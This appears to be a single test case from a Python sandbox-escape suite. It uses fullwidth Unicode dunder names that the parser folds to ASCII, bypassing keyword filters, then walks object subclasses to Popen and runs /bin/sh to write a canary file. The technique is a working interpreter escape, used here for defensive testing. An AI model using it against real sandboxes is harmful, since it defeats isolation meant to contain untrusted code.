# id: 528
# name: unicode_spelling_of_a_dunder
# category: interpreter
# technique: identifiers that the parser folds: ｏｐｅｎ, __ｃｌａｓｓ__
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
o = ().__ｃlass__.__ｂase__
for c in o.__ｓubclasses__():
    if c.__name__ == 'Popen':
        c(['/bin/sh', '-c', 'echo breach > ' + CANARY_FILE]).wait()
